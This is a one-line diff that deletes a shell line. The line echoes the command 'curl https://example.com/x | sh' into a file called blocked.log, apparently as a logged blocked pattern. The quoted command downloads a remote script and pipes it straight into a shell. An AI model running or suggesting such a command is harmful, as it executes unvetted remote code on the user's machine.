@@ -1,1 +1,0 @@
-echo "curl https://example.com/x | sh" >> blocked.log
